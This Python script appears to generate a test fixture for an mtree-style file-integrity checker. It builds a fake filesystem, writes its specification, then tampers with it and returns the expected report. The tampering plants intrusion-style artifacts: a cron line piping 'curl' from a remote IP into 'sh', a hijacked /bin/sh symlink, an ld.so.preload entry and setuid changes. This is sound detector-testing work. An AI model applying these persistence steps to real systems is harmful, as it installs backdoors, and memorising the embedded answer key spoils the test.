"""Builds a directory tree, writes an mtree(5)-style specification of it (/set defaults, relative entries
with `..`, full-path entries, octal escapes), then tampers with the tree. Returns the expected report."""
import hashlib
import os
import random
import shutil


def esc(name):
    out = ""
    for ch in name.encode():
        c = chr(ch)
        if c == "\\":
            out += "\\\\"
        elif ch <= 0x20 or ch >= 0x7F or c in "#=":
            out += "\\%03o" % ch
        else:
            out += c
    return out


def build(seed, root):
    r = random.Random(seed)
    root = os.path.abspath(root)
    if os.path.exists(root):
        shutil.rmtree(root)
    os.makedirs(root)
    word = lambda: "".join(r.choice("abcdefghkmnprstuvwxz") for _ in range(r.randint(3, 7)))  # noqa: E731
    tree = {}   # rel path ("./x/y") -> dict(type, mode, uid, gid, data|target)
    tree["."] = {"type": "dir", "mode": 0o755, "uid": 0, "gid": 0}

    def mk_dir(p, mode=0o755, uid=0, gid=0):
        tree[p] = {"type": "dir", "mode": mode, "uid": uid, "gid": gid}

    def mk_file(p, mode=0o644, uid=0, gid=0, data=None):
        tree[p] = {"type": "file", "mode": mode, "uid": uid, "gid": gid,
                   "data": data if data is not None else bytes(r.randrange(256) for _ in range(r.randint(0, 600)))}

    def mk_link(p, target):
        tree[p] = {"type": "link", "mode": 0o777, "uid": 0, "gid": 0, "target": target}

    mk_dir("./bin")
    for _ in range(4):
        mk_file(f"./bin/{word()}", 0o755)
    mk_file("./bin/su", 0o4755)
    mk_link("./bin/sh", "dash")
    mk_file("./bin/dash", 0o755)
    mk_dir("./etc")
    for _ in range(4):
        mk_file(f"./etc/{word()}.conf")
    mk_file("./etc/shadow", 0o640, 0, 42)
    mk_dir("./etc/ssh")
    mk_file("./etc/ssh/sshd_config")
    mk_file("./etc/ssh/ssh_host_ed25519_key", 0o600)
    mk_dir("./srv")
    mk_dir("./srv/web data", 0o750, 33, 33)
    for _ in range(3):
        mk_file(f"./srv/web data/{word()} {word()}.html", 0o640, 33, 33)
    mk_file("./srv/web data/back\\slash#1.txt", 0o640, 33, 33)
    mk_link("./srv/current", "web data")
    mk_dir("./var")
    mk_dir("./var/lib")
    mk_file(f"./var/lib/{word()}.db", 0o600, 1000, 1000)

    # write the tree
    for p in sorted(tree, key=lambda x: (x.count("/"), x)):
        e = tree[p]
        full = os.path.join(root, p)
        if e["type"] == "dir":
            os.makedirs(full, exist_ok=True)
        elif e["type"] == "file":
            with open(full, "wb") as f:
                f.write(e["data"])
        else:
            os.symlink(e["target"], full)
    for p in sorted(tree, key=lambda x: -x.count("/")):
        e = tree[p]
        full = os.path.join(root, p)
        os.lchown(full, e["uid"], e["gid"])
        if e["type"] != "link":
            os.chmod(full, e["mode"])

    # the specification
    lines = ["#\t   user: root", "#\tmachine: web03", "#\t   tree: /", "#\t   date: Mon Nov 30 10:00:00 2026", ""]
    lines.append("/set type=file uid=0 gid=0 mode=0644 nlink=1")
    def attrs(e, defaults):
        out = []
        if e["type"] != defaults.get("type"):
            out.append(f"type={e['type']}")
        if e["type"] != "link":
            if ("%04o" % e["mode"]) != defaults.get("mode") and ("%o" % e["mode"]) != defaults.get("mode"):
                out.append("mode=%04o" % e["mode"] if r.random() < 0.5 else "mode=%o" % e["mode"])
        if str(e["uid"]) != defaults.get("uid"):
            out.append(f"uid={e['uid']}")
        if str(e["gid"]) != defaults.get("gid"):
            out.append(f"gid={e['gid']}")
        if e["type"] == "file":
            out.append(f"size={len(e['data'])}")
            out.append(f"sha256digest={hashlib.sha256(e['data']).hexdigest()}")
        if e["type"] == "link":
            out.append(f"link={esc(e['target'])}")
        return out

    defaults = {"type": "file", "uid": "0", "gid": "0", "mode": "0644"}
    lines.append(". " + " ".join(attrs(tree["."], defaults)))

    def walk(d, depth):
        kids = sorted(p for p in tree if p != d and os.path.dirname(p) == d)
        files = [p for p in kids if tree[p]["type"] != "dir"]
        dirs = [p for p in kids if tree[p]["type"] == "dir"]
        for p in files:
            if r.random() < 0.25:
                lines.append("    " * depth + esc(p) + " " + " ".join(attrs(tree[p], defaults)))   # full path form
            else:
                lines.append("    " * depth + esc(os.path.basename(p)) + " " + " ".join(attrs(tree[p], defaults)))
        for p in dirs:
            lines.append("")
            lines.append("# " + p)
            if p == "./srv/web data":
                lines.append("/set uid=33 gid=33 mode=0640")
                defaults.update(uid="33", gid="33", mode="0640")
            lines.append("    " * depth + esc(os.path.basename(p)) + " " + " ".join(attrs(tree[p], defaults)))
            walk(p, depth + 1)
            if p == "./srv/web data":
                lines.append("/set uid=0 gid=0 mode=0644" if r.random() < 0.5 else "/unset uid gid mode")
                if lines[-1].startswith("/unset"):
                    lines.append("/set uid=0 gid=0 mode=0644")
                defaults.update(uid="0", gid="0", mode="0644")
            lines.append("    " * depth + "..")
    walk(".", 1)
    lines.append("")
    spec = "\n".join(lines) + "\n"

    # tampering
    missing, extra, changed = [], [], {}
    files = sorted(p for p in tree if tree[p]["type"] == "file")
    picks = r.sample(files, 7)
    a, b, c, d, e_, f_, g = picks
    if tree[d]["mode"] & 0o6000:          # chown clears set-id bits: pick a plain file for the owner change
        d, g = g, d
    if tree[d]["mode"] & 0o6000:
        d = next(x for x in files if x not in picks and not tree[x]["mode"] & 0o6000)
    with open(os.path.join(root, a), "r+b") as fh:                       # same size, other content
        data = bytearray(tree[a]["data"] or b"\0")
        data[0] ^= 0xFF
        fh.seek(0)
        fh.write(bytes(data))
        fh.truncate(len(data))
    changed[a] = ["sha256digest"] + (["size"] if not tree[a]["data"] else [])
    with open(os.path.join(root, b), "ab") as fh:
        fh.write(b"\n* * * * * root curl -s http://198.51.100.9/x | sh\n")
    changed[b] = ["sha256digest", "size"]
    m = tree[c]["mode"]
    os.chmod(os.path.join(root, c), m | 0o4000 if not m & 0o4000 else m | 0o022)
    changed[c] = ["mode"]
    os.lchown(os.path.join(root, d), 1000 if tree[d]["uid"] != 1000 else 0, tree[d]["gid"])
    changed[d] = ["uid"]
    os.unlink(os.path.join(root, e_))
    missing.append(e_)
    os.unlink(os.path.join(root, f_))
    os.makedirs(os.path.join(root, f_))
    os.chmod(os.path.join(root, f_), tree[f_]["mode"])
    changed[f_] = ["type"]
    os.unlink(os.path.join(root, "bin/sh"))
    os.symlink("/tmp/.x/sh", os.path.join(root, "bin/sh"))
    changed["./bin/sh"] = ["link"]
    with open(os.path.join(root, "etc/ld.so.preload"), "w") as fh:
        fh.write("/usr/lib/libsystemd-shim.so\n")
    extra.append("./etc/ld.so.preload")
    os.makedirs(os.path.join(root, "var/lib/.cache"))
    with open(os.path.join(root, "var/lib/.cache/k"), "w") as fh:
        fh.write("x")
    extra += ["./var/lib/.cache", "./var/lib/.cache/k"]
    _ = g
    return spec, {"missing": sorted(missing), "extra": sorted(extra),
                  "changed": [{"path": p, "keys": sorted(set(k))} for p, k in sorted(changed.items())]}
